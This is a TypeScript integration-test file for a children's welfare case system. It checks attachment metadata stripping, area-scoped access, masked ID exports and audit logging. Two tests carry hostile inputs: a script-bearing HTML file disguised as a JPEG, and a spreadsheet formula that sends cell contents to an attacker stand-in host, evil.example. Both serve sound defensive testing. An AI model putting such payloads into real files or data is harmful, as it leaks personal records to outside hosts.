/**
 * Attachments (requirement 23) and exports (requirement 24) through the API, on a real database:
 * type by content, EXIF/GPS gone, served only inside the caller's area and only as a download;
 * exports masked by default, unmasked only with the permission and a reason, formula cells
 * escaped, downloadable by their creator only; everything audited.
 */
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEMO_PASSWORD, testEnv, type Agent, type TestEnv } from '../../../test/harness.js';
import { jpegWithGps, tinyPng, TINY_JPEG } from './testFixtures.js';
import { orientationSegment } from './binary.js';

let env: TestEnv;
let dinghai: Agent;
let pingliang: Agent;
let dinghaiChild: string;
let pingliangChild: string;

beforeAll(async () => {
  env = await testEnv();
  dinghai = await env.login('street-dinghai');
  pingliang = await env.login('street-pingliang');
  dinghaiChild = (await env.owner.query(`select id from children where street_code = 'dinghai' order by id limit 1`)).rows[0].id;
  pingliangChild = (await env.owner.query(`select id from children where street_code = 'pingliang' order by id limit 1`)).rows[0].id;
});
afterAll(async () => {
  await env?.close();
});

const upload = (a: Agent, childId: string, filename: string, content: Buffer, entity = 'child', entityId = childId) =>
  a.post('/api/attachments', { childId, entity, entityId, filename, contentBase64: content.toString('base64') });
const audits = async (action: string) =>
  (
    await env.owner.query<{ summary: Record<string, unknown>; outcome: string; reason: string | null; username: string }>(
      'select summary, outcome, reason, username from audit_log where action = $1 order by id',
      [action],
    )
  ).rows;

describe('attachments', () => {
  let photoId: string;

  it('stores a JPEG without its EXIF/GPS, and serves it only as a download', async () => {
    const res = await upload(dinghai, dinghaiChild, '走访照片.jpg', jpegWithGps());
    expect(res.statusCode, res.body).toBe(200);
    const body = res.json();
    expect(body).toMatchObject({ mime: 'image/jpeg', filename: '走访照片.jpg', deletable: true, metadataRemoved: true });
    photoId = body.id;

    const stored = (
      await env.owner.query<{ content: Buffer; street_code: string; size_bytes: number }>(
        'select content, street_code, size_bytes from attachments where id = $1',
        [photoId],
      )
    ).rows[0]!;
    expect(stored.street_code).toBe('dinghai'); // from the child, by trigger
    const expected = Buffer.concat([TINY_JPEG.subarray(0, 20), orientationSegment(6), TINY_JPEG.subarray(20)]);
    expect(stored.content.equals(expected)).toBe(true);
    expect(stored.size_bytes).toBe(expected.length);

    const dl = await dinghai.get(`/api/attachments/${photoId}`);
    expect(dl.statusCode).toBe(200);
    expect(dl.rawPayload.equals(expected)).toBe(true);
    expect(dl.headers['content-type']).toBe('image/jpeg');
    expect(dl.headers['content-disposition']).toBe(`attachment; filename="____.jpg"; filename*=UTF-8''%E8%B5%B0%E8%AE%BF%E7%85%A7%E7%89%87.jpg`);
    expect(dl.headers['x-content-type-options']).toBe('nosniff');
    expect(dl.headers['cache-control']).toBe('no-store');

    expect((await audits('attachment.upload')).at(-1)!.summary).toMatchObject({
      attachmentId: photoId,
      entity: 'child',
      mime: 'image/jpeg',
      metadataRemoved: expect.arrayContaining(['EXIF']),
    });
    expect((await audits('attachment.download')).at(-1)!.summary).toMatchObject({ attachmentId: photoId });
  });

  it('strips text chunks from a PNG and lists attachments of the file', async () => {
    const res = await upload(dinghai, dinghaiChild, 'scan.png', tinyPng(true));
    expect(res.statusCode).toBe(200);
    const stored = (await env.owner.query<{ content: Buffer }>('select content from attachments where id = $1', [res.json().id])).rows[0]!;
    expect(stored.content.equals(tinyPng(false))).toBe(true);
    const list = await dinghai.get(`/api/children/${dinghaiChild}/attachments`);
    expect(list.statusCode).toBe(200);
    expect(list.json().items.map((i: { filename: string }) => i.filename)).toEqual(['scan.png', '走访照片.jpg']);
    expect(list.body).not.toContain('content');
  });

  it('refuses HTML named .jpg, with a Chinese message, and stores nothing', async () => {
    const before = (await env.owner.query('select count(*)::int as n from attachments')).rows[0].n;
    const res = await upload(
      dinghai,
      dinghaiChild,
      'photo.jpg',
      Buffer.from('<!doctype html><html><body><script>fetch("/api/auth/me")</script></body></html>'),
    );
    expect(res.statusCode).toBe(400);
    expect(res.json().error.message).toMatch(/不是 JPEG 或 PNG 图片/);
    expect((await env.owner.query('select count(*)::int as n from attachments')).rows[0].n).toBe(before);
    expect((await audits('attachment.upload')).at(-1)).toMatchObject({ outcome: 'denied' });
  });

  it('refuses files over 10 MB and bad base64', async () => {
    const big = await dinghai.post('/api/attachments', {
      childId: dinghaiChild,
      entity: 'child',
      entityId: dinghaiChild,
      filename: 'big.pdf',
      contentBase64: Buffer.alloc(10 * 1024 * 1024 + 10, 0x25).toString('base64'),
    });
    expect(big.statusCode).toBe(400);
    expect(big.body).toMatch(/10 MB/);
    const bad = await dinghai.post('/api/attachments', {
      childId: dinghaiChild,
      entity: 'child',
      entityId: dinghaiChild,
      filename: 'a.pdf',
      contentBase64: '%%%%',
    });
    expect(bad.statusCode).toBe(400);
  });

  it('another street: 404 on download, list, upload and delete', async () => {
    expect((await pingliang.get(`/api/attachments/${photoId}`)).statusCode).toBe(404);
    expect((await pingliang.get(`/api/children/${dinghaiChild}/attachments`)).statusCode).toBe(404);
    expect((await upload(pingliang, dinghaiChild, 'x.jpg', TINY_JPEG)).statusCode).toBe(404);
    expect((await pingliang.delete(`/api/attachments/${photoId}`)).statusCode).toBe(404);
    // Nor the other way round.
    expect((await upload(dinghai, pingliangChild, 'x.jpg', TINY_JPEG)).statusCode).toBe(404);
    // A record id that is not a visit of this child.
    expect((await upload(dinghai, dinghaiChild, 'x.jpg', TINY_JPEG, 'visit', pingliangChild)).statusCode).toBe(404);
    expect((await env.owner.query('select count(*)::int as n from attachments where id = $1', [photoId])).rows[0].n).toBe(1);
  });

  it('only the uploader deletes', async () => {
    const district = await env.login('district');
    expect((await district.get(`/api/attachments/${photoId}`)).statusCode).toBe(200); // in scope: may read
    expect((await district.delete(`/api/attachments/${photoId}`)).statusCode).toBe(403);
    expect((await dinghai.delete(`/api/attachments/${photoId}`)).statusCode).toBe(200);
    expect((await dinghai.get(`/api/attachments/${photoId}`)).statusCode).toBe(404);
    expect((await audits('attachment.delete')).length).toBe(1);
  });
});

async function readXlsx(buf: Buffer): Promise<ExcelJS.Workbook> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buf as unknown as ExcelJS.Buffer);
  return wb;
}

describe('exports', () => {
  const injected = '=HYPERLINK("http://evil.example/?x="&A1,"点我")';
  let exportId: string;

  beforeAll(async () => {
    await env.owner.query('update children set name = $2 where id = $1', [dinghaiChild, injected]);
  });

  it('exports the street list masked by default, with who/when/filters, formulas escaped', async () => {
    const total = (await env.owner.query(`select count(*)::int as n from children where street_code = 'dinghai' and status = 'active'`)).rows[0].n;
    const res = await dinghai.post('/api/children/export', { filters: { status: 'active' } });
    expect(res.statusCode, res.body).toBe(200);
    const created = res.json();
    expect(created).toMatchObject({ rows: total, masked: true });
    expect(created.filename).toMatch(/^困境儿童名单_\d{8}_\d{4}\.xlsx$/);
    exportId = created.id;

    const dl = await dinghai.get(`/api/exports/${exportId}`);
    expect(dl.statusCode).toBe(200);
    expect(dl.headers['content-disposition']).toContain("filename*=UTF-8''");
    expect(dl.headers['cache-control']).toBe('no-store');
    const wb = await readXlsx(dl.rawPayload);
    const info = wb.getWorksheet('导出说明')!;
    const infoText = info.getSheetValues().flat().join(' ');
    expect(infoText).toContain('内部资料 注意保密');
    expect(infoText).toContain('李娟（street-dinghai）');
    expect(infoText).toContain('定海路街道办事处');
    expect(infoText).toMatch(/\d{4}-\d{2}-\d{2} \d{2}:\d{2}（北京时间）/);
    expect(infoText).toContain('状态：在册');

    const ws = wb.getWorksheet('儿童名单')!;
    expect(ws.getRow(1).values).toEqual([
      undefined,
      '姓名',
      '性别',
      '出生日期',
      '年龄',
      '身份证号',
      '街道',
      '居民区',
      '风险等级',
      '类别',
      '下次走访',
      '逾期天数',
    ]);
    expect(ws.rowCount).toBe(total + 1);
    const ids: string[] = [];
    let evil: ExcelJS.Cell | null = null;
    ws.eachRow((row, n) => {
      if (n === 1) return;
      const id = row.getCell(5).value;
      if (id) ids.push(String(id));
      if (String(row.getCell(1).value).includes('HYPERLINK')) evil = row.getCell(1);
    });
    expect(ids.length).toBeGreaterThan(0);
    for (const id of ids) expect(id).toMatch(/^\d{6}\*{8}[\dX]{4}$/);
    expect(evil).not.toBeNull();
    expect(evil!.type).toBe(ExcelJS.ValueType.String);
    expect(evil!.value).toBe(`'${injected}`);
    expect(evil!.formula).toBeUndefined();
    // Birth dates are real dates (UTC midnight), shown as that very day.
    const birth = ws.getRow(2).getCell(3).value as Date;
    expect(birth).toBeInstanceOf(Date);
    expect(birth.getUTCHours()).toBe(0);

    const row = (await audits('children.export')).at(-1)!;
    expect(row.summary).toMatchObject({ rows: total, masked: true });
    expect((await audits('export.download')).at(-1)!.summary).toMatchObject({ rows: total, masked: true });
  });

  it('another user downloading the export gets 404', async () => {
    expect((await pingliang.get(`/api/exports/${exportId}`)).statusCode).toBe(404);
    const district = await env.login('district');
    expect((await district.get(`/api/exports/${exportId}`)).statusCode).toBe(404);
  });

  it('unmasked only with children.unmask and a reason', async () => {
    const noReason = await dinghai.post('/api/children/export', { filters: { status: 'active' }, unmasked: true });
    expect(noReason.statusCode).toBe(400);
    expect(noReason.body).toContain('须说明原因');

    // A role that may export but not unmask.
    const hash = (await env.owner.query(`select password_hash from users where username = 'street-dinghai'`)).rows[0].password_hash;
    await env.owner.query(
      `insert into roles (code, name, scope_kind, permissions) values ('exporter', '导出员', 'street', '{org.read,children.read,children.export}')`,
    );
    const uid = (
      await env.owner.query(
        `insert into users (username, display_name, unit_code, password_hash) values ('exporter-dinghai', '导出员', 'street-dinghai', $1) returning id`,
        [hash],
      )
    ).rows[0].id;
    await env.owner.query(`insert into user_roles (user_id, role_code) values ($1, 'exporter')`, [uid]);
    const exporter = await env.login('exporter-dinghai', DEMO_PASSWORD);
    const refused = await exporter.post('/api/children/export', { filters: { status: 'active' }, unmasked: true, reason: '核对低保名单' });
    expect(refused.statusCode).toBe(403);
    expect((await audits('children.export')).at(-1)).toMatchObject({ outcome: 'denied' });
    expect((await exporter.post('/api/children/export', { filters: { status: 'active' } })).statusCode).toBe(200);

    const ok = await dinghai.post('/api/children/export', { filters: { status: 'active', committee: undefined }, unmasked: true, reason: '核对低保名单' });
    expect(ok.statusCode, ok.body).toBe(200);
    expect(ok.json().masked).toBe(false);
    const wb = await readXlsx((await dinghai.get(`/api/exports/${ok.json().id}`)).rawPayload);
    const ws = wb.getWorksheet('儿童名单')!;
    const full: string[] = [];
    ws.eachRow((row, n) => {
      if (n > 1 && row.getCell(5).value) full.push(String(row.getCell(5).value));
    });
    expect(full.length).toBeGreaterThan(0);
    for (const id of full) expect(id).toMatch(/^\d{17}[\dX]$/);
    expect(wb.getWorksheet('导出说明')!.getSheetValues().flat().join(' ')).toContain('完整显示（原因：核对低保名单）');
    expect((await audits('children.export')).at(-1)).toMatchObject({
      outcome: 'success',
      reason: '核对低保名单',
      summary: expect.objectContaining({ masked: false }),
    });
  });

  it("exports only the caller's area, and follows the filters", async () => {
    const res = await pingliang.post('/api/children/export', { filters: { status: 'active', risk: 'high' } });
    expect(res.statusCode).toBe(200);
    const high = (
      await env.owner.query(`select count(*)::int as n from children where street_code = 'pingliang' and status = 'active' and risk_level = 'high'`)
    ).rows[0].n;
    expect(res.json().rows).toBe(high);
    const wb = await readXlsx((await pingliang.get(`/api/exports/${res.json().id}`)).rawPayload);
    const ws = wb.getWorksheet('儿童名单')!;
    ws.eachRow((row, n) => {
      if (n > 1) {
        expect(row.getCell(6).value).toBe('平凉路街道');
        expect(row.getCell(8).value).toBe('高');
      }
    });
    expect(wb.getWorksheet('导出说明')!.getSheetValues().flat().join(' ')).toContain('风险等级：高');
  });
});

describe('printing the child file', () => {
  it("is audited, and refused outside the caller's area", async () => {
    const res = await dinghai.post(`/api/children/${dinghaiChild}/print-log`);
    expect(res.statusCode).toBe(200);
    expect((await env.owner.query(`select entity_id, username from audit_log where action = 'child.print' order by id desc limit 1`)).rows[0]).toEqual({
      entity_id: dinghaiChild,
      username: 'street-dinghai',
    });
    expect((await pingliang.post(`/api/children/${dinghaiChild}/print-log`)).statusCode).toBe(404);
  });
});
